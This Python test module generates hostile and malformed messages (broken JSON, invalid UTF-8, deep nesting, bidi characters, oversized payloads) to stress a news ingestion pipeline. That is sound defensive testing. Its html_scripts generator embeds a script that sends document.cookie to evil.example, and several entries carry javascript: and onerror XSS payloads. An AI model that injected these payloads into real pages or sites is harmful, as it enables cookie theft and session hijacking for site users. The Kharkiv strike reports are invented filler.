"""Hostile input for news.raw: what a broken feeder, a fuzzer or an attacker sends.

Written for this suite. Every generator takes a seeded `random.Random` and a serial number so
that each message is distinct (an exact re-send would be a duplicate, not the input under
test) and a failing run can be reproduced.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable

from tests.chaos.harness import Message, expect

Gen = Callable[[random.Random, int],
               tuple[str, bytes | None, bytes | None, list[tuple[str, bytes]]]]

STRIKE = ("Missiles struck a power plant near Kharkiv overnight and at least {k} people were "
          "killed, the regional governor said on Tuesday.")


def _article(i: int, **fields: object) -> bytes:
    doc = {"id": f"hostile-{i}", "headline": f"Hostile {i}", "body": STRIKE.format(k=10 + i % 50),
           "published_at": "2025-06-04T12:00:00Z"}
    doc.update(fields)
    return json.dumps(doc, ensure_ascii=False).encode()


def random_bytes(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    return "random bytes", rng.randbytes(rng.randint(1, 4000)), None, []


def invalid_utf8(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    good = _article(i)
    cut = rng.randint(10, len(good) - 10)
    bad = rng.choice([b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\x80", b"\xf8\x88\x80\x80",
                      "Caf\u00e9 ".encode("latin-1")])
    value = rng.choice([good[:cut] + bad + good[cut:], good + b"\xe2\x82",
                        f"KYIV (Reuters) - Caf\u00e9 {i} strike".encode("cp1252")])
    return "invalid UTF-8", value, None, []


def broken_json(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    good = _article(i).decode()
    value = rng.choice([
        good[: rng.randint(1, len(good) - 1)],
        good.replace('", "', '", , "', 1),
        good.replace('"', "'"),
        f'{{"id": "hostile-{i}", "body": NaN, }}',
        f'{{"id": "hostile-{i}", "body": "unterminated',
        f'[{{"id": "hostile-{i}"}}',
        f'{{"id": "hostile-{i}"}} trailing garbage',
    ])
    return "broken JSON", value.encode(), None, []


def deep_nesting(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    depth = rng.choice([100, 1000, 5000])
    if rng.random() < 0.5:
        value = "[" * depth + str(i) + "]" * depth
    else:
        value = f'{{"id": "hostile-{i}", "body": ' + '{"a": ' * depth + "1" + "}" * depth + "}"
    return "deep nesting", value.encode(), None, []


def huge_array(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    n = rng.choice([1_000, 5_000, 20_000])
    value = rng.choice([
        json.dumps([i] * n),
        json.dumps({"id": f"hostile-{i}", "body": STRIKE.format(k=i % 90), "tags": [i] * n}),
        json.dumps({"uri": f"urn:hostile:{i}", "headlines": [{"value": f"h{i}"}] * (n // 10),
                    "bodies": [{"value": STRIKE.format(k=i % 90)}] * (n // 100)}),
    ])
    return "huge array", value.encode(), None, []


def wrong_types(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    field, bad = rng.choice([
        ("body", 12345), ("body", ["a", "list"]), ("body", {"nested": "object"}),
        ("body", None), ("body", True), ("headline", 7), ("id", ["x"]), ("id", ""),
        ("version", "abc"), ("version", -1), ("version", 1e308), ("published_at", "yesterday"),
        ("published_at", 1717500000), ("language", 5), ("source", {"x": 1}),
        ("id", "x" * 10_000), ("url", "javascript:alert(1)"),
    ])
    return "wrong types", _article(i, **{field: bad}), None, []


def nul_bytes(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    value = rng.choice([
        _article(i, body="Missiles\u0000 struck a power plant\u0000 near Kharkiv overnight."),
        _article(i, id=f"hostile-{i}\u0000nul", headline="NUL\u0000in headline"),
        f"KHARKIV (Reuters) - Missiles struck\x00 a power plant {i}\x00\x00 overnight.".encode(),
        b"\x00" * rng.randint(1, 64),
    ])
    return "NUL", value, None, []


def bidi_zero_width(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    rlo, zw = "\u202e", rng.choice(["\u200b", "\u2060", "\ufeff", "\u200b\u200b"])
    value = rng.choice([
        _article(i, headline=f"Strike {rlo}dias laicifo{i}\u202c on plant"),
        _article(i, body=f"Mis{zw}siles struck a power {rlo}tnalp{i}\u202c near Kharkiv "
                         f"overnight and {zw}12 people were killed."),
        _article(i, id=f"hostile-{rlo}{i}", source=f"Reu{zw}ters{rlo}"),
        _article(i, headline=f"\u2067Isolated {i}\u2069 headline", caption=f"{rlo}caption"),
        f"KHARKIV (Reu{zw}ters) - {rlo}Missiles struck a power plant {i} overnight, the "
        "governor said.".encode(),
    ])
    return "bidi and zero-width", value, None, []


def html_scripts(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    script = f"<script>fetch('https://evil.example/{i}?c='+document.cookie)</script>"
    value = rng.choice([
        json.dumps({"uri": f"urn:hostile:html:{i}", "headline": f"HTML {i}",
                    "body_html": f"<p>Missiles struck a power plant near Kharkiv.</p>{script}"
                                 f"<img src=x onerror=alert({i})>"}),
        _article(i, body=f"{script} Missiles struck a power plant near Kharkiv, killing {i}."
                 ).decode(),
        f"<html><body>{script}<p>Strike {i}</p></body></html>",
        _article(i, headline=f"<iframe src=javascript:alert({i})>").decode(),
    ])
    return "HTML with scripts", value.encode(), None, []


def odd_keys_headers(rng: random.Random, i: int) -> tuple[str, bytes, bytes | None, list]:
    key = rng.choice([rng.randbytes(rng.randint(1, 64)), b"", b"\x00\xff" * 5000,
                      f"\u202ekey{i}".encode(), None])
    headers = rng.choice([
        [("kind", b"\xff\xfe\x00")],
        [(f"h{j}", rng.randbytes(8)) for j in range(50)],
        [("dup", b"1"), ("dup", b"2")],
        [("\u202e\u00e9t\u00e9", b"x" * 10_000)],
        [],
    ])
    return "odd keys and headers", _article(i), key, headers


def empty(rng: random.Random, i: int) -> tuple[str, bytes | None, bytes | None, list]:
    value = rng.choice([None, b"", b" " * (i % 50 + 1), b"\n\t\r\n", "\ufeff".encode(),
                        "\u00a0\u200b".encode(), b"{}", b"[]", b"null", b'""', b"0"])
    return "empty or blank", value, f"k{i}".encode(), []


GENERATORS: list[Gen] = [random_bytes, invalid_utf8, broken_json, deep_nesting, huge_array,
                         wrong_types, nul_bytes, bidi_zero_width, html_scripts,
                         odd_keys_headers, empty]
# Heavy ones are rarer: a huge array is hundreds of KB.
WEIGHTS = [10, 10, 10, 3, 1, 10, 6, 10, 8, 8, 4]


def unpunctuated_conflict_text(size: int) -> bytes:
    """~`size` bytes of conflict vocabulary with no sentence end anywhere: one 'sentence'
    as long as the message limit allows, the worst case for a sentence-by-sentence coder."""
    words = ["missiles", "struck", "the", "power", "plant", "near", "kharkiv", "and", "the",
             "army", "rejected", "the", "ceasefire", "and", "drones", "hit", "the", "air",
             "base", "and", "at", "least", "40", "people", "were", "killed", "and", "talks",
             "collapsed", "and", "shells", "hit", "the", "dam", "and"]
    out, n, j = [], 0, 0
    while n < size - 20:
        word = words[j % len(words)]
        out.append(word)
        n += len(word) + 1
        j += 1
    return ("KHARKIV (Reuters) - " + " ".join(out)).encode()[:size]


def punctuated_article(size: int, i: int) -> bytes:
    """A valid project-JSON article of about `size` bytes: long, but ordinary sentences."""
    sentence = ("Shells hit a market in Kherson on Monday, officials said, and aid workers "
                "cleared the debris. ")
    body = sentence * (size // len(sentence))
    doc = {"id": f"hostile-big-{i}", "headline": "Long article", "body": ""}
    room = size - len(json.dumps(doc).encode())
    doc["body"] = body[:room]
    return json.dumps(doc).encode()


SIZED_LABELS = frozenset({
    "near the worker limit", "1 MB unpunctuated conflict text", "just over the worker limit",
    "1.5 MB", "huge array near the worker limit", "deep nesting near the worker limit",
    "near the broker limit", "over the broker limit"})


def sized_messages(broker_limit: int, worker_limit: int) -> list[Message]:
    """Near and over both limits: the worker's (dead-lettered as oversized, carrying the
    original or, past what a dead letter can hold, its hash and size) and the broker's (which
    refuses it: it never becomes a raw message)."""
    cases = [
        ("near the worker limit", punctuated_article(worker_limit - 200, 1)),
        ("1 MB unpunctuated conflict text", unpunctuated_conflict_text(worker_limit - 100)),
        ("just over the worker limit", punctuated_article(worker_limit + 1, 2)),
        ("1.5 MB", punctuated_article(1_500_000, 3)),
        ("huge array near the worker limit", json.dumps([0] * (worker_limit // 3 - 10)).encode()),
        ("deep nesting near the worker limit",
         b"[" * (worker_limit // 2 - 10) + b"]" * (worker_limit // 2 - 10)),
        ("near the broker limit", punctuated_article(broker_limit - 4096, 4)),
    ]
    out = [expect(value, label=label, code=False) for label, value in cases]
    over = expect(punctuated_article(broker_limit + 1024, 5), label="over the broker limit",
                  code=False)
    return [*out, over]


def hostile_messages(total: int, valid: list[Message], *, broker_limit: int,
                     worker_limit: int, seed: int = 500) -> list[Message]:
    """`total` messages: the valid wires, the sized cases and generated hostile input,
    shuffled together (seeded)."""
    rng = random.Random(seed)
    sized = sized_messages(broker_limit, worker_limit)
    hostile = []
    for i in range(total - len(valid) - len(sized)):
        label, value, key, headers = rng.choices(GENERATORS, WEIGHTS)[0](rng, i)
        hostile.append(expect(value, label=label, key=key, headers=headers, code=False))
    mixed = valid + hostile
    rng.shuffle(mixed)
    # The sized cases go a third of the way in: a stall there holds back what follows.
    third = len(mixed) // 3
    return mixed[:third] + sized + mixed[third:]
